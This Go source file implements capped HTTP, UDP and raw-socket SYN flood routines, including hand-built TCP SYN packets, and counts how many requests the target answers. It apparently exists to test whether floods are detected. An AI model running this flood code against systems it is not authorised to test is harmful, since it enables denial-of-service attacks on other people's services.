package main

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"strconv"
	"sync"
	"sync/atomic"
	"time"
)

// Limits of every flood, whichever is reached first. They are enough to be
// noticed and little enough to share a machine with.
const (
	floodTime    = 3 * time.Second
	floodPackets = 20_000
	floodWorkers = 8 // of the HTTP flood
)

func runHTTPFlood(ctx context.Context, args []string) error {
	if err := need(args, 1); err != nil {
		return err
	}
	ctx, cancel := context.WithTimeout(ctx, floodTime)
	defer cancel()
	var sent, answered atomic.Int64
	var all sync.WaitGroup
	for range floodWorkers {
		all.Go(func() {
			for ctx.Err() == nil && sent.Add(1) <= floodPackets {
				req, err := http.NewRequestWithContext(ctx, http.MethodGet, args[0], nil)
				if err != nil {
					return
				}
				resp, err := http.DefaultClient.Do(req)
				if err != nil {
					continue // refused ones are what the count is for
				}
				if _, err := io.Copy(io.Discard, resp.Body); err == nil && resp.StatusCode == http.StatusOK {
					answered.Add(1)
				}
				resp.Body.Close()
			}
		})
	}
	all.Wait()
	fmt.Println(answered.Load())
	return nil
}

// runUDPFlood prints how many datagrams it sent.
func runUDPFlood(ctx context.Context, args []string) error {
	if err := need(args, 2); err != nil {
		return err
	}
	conn, err := (&net.Dialer{}).DialContext(ctx, "udp", net.JoinHostPort(args[0], args[1]))
	if err != nil {
		return err
	}
	defer conn.Close()
	datagram, sent := make([]byte, 512), 0
	for start := time.Now(); sent < floodPackets && time.Since(start) < floodTime; sent++ {
		if _, err := conn.Write(datagram); err != nil {
			return fmt.Errorf("after %d datagrams: %w", sent, err)
		}
	}
	fmt.Println(sent)
	return nil
}

// runSYNFlood begins TCP connections that it never finishes, from ports that
// nobody listens on, and prints how many of them were answered.
func runSYNFlood(_ context.Context, args []string) error {
	if err := need(args, 2); err != nil {
		return err
	}
	port, err := strconv.ParseUint(args[1], 10, 16)
	if err != nil {
		return err
	}
	to, err := net.ResolveIPAddr("ip4", args[0])
	if err != nil {
		return err
	}
	conn, err := net.DialIP("ip4:tcp", nil, to) // a raw socket
	if err != nil {
		return err
	}
	defer conn.Close()
	from, ok := conn.LocalAddr().(*net.IPAddr)
	if !ok {
		return fmt.Errorf("local address %v is not an IP address", conn.LocalAddr())
	}
	answered := make(chan int)
	go func() { answered <- countAnswers(conn, uint16(port)) }()
	for i, start := 0, time.Now(); i < floodPackets && time.Since(start) < floodTime; i++ {
		// What the kernel has no room for is lost, as in any flood.
		_, _ = conn.Write(syn(from.IP, to.IP, uint16(1024+i%60_000), uint16(port), uint32(i)))
	}
	fmt.Println(<-answered)
	return nil
}

// countAnswers counts SYN-ACKs from the port until a second after the flood's
// longest time.
func countAnswers(conn *net.IPConn, port uint16) int {
	if err := conn.SetReadDeadline(time.Now().Add(floodTime + time.Second)); err != nil {
		return 0
	}
	buf, n := make([]byte, 128), 0
	for {
		size, _, err := conn.ReadFrom(buf) // which leaves the IP header out
		if err != nil {
			if !errors.Is(err, os.ErrDeadlineExceeded) {
				fmt.Fprintf(os.Stderr, "read answers: %v\n", err)
			}
			return n
		}
		const synAck = 0x12
		if size >= 20 && binary.BigEndian.Uint16(buf) == port && buf[13] == synAck {
			n++
		}
	}
}

// syn returns a TCP segment that asks for a connection.
func syn(from, to net.IP, fromPort, toPort uint16, seq uint32) []byte {
	b := make([]byte, 20)
	binary.BigEndian.PutUint16(b[0:], fromPort)
	binary.BigEndian.PutUint16(b[2:], toPort)
	binary.BigEndian.PutUint32(b[4:], seq)
	b[12], b[13] = 5<<4, 0x02              // five words of header; the flag SYN
	binary.BigEndian.PutUint16(b[14:], 64) // window
	pseudo := append(append([]byte{}, from.To4()...), to.To4()...)
	pseudo = append(pseudo, 0, 6, 0, byte(len(b)))
	binary.BigEndian.PutUint16(b[16:], checksum(append(pseudo, b...)))
	return b
}

// checksum is the Internet checksum (RFC 1071) of an even number of bytes.
func checksum(b []byte) uint16 {
	var sum uint32
	for ; len(b) > 1; b = b[2:] {
		sum += uint32(binary.BigEndian.Uint16(b))
	}
	for sum>>16 != 0 {
		sum = sum&0xffff + sum>>16
	}
	return ^uint16(sum)
}
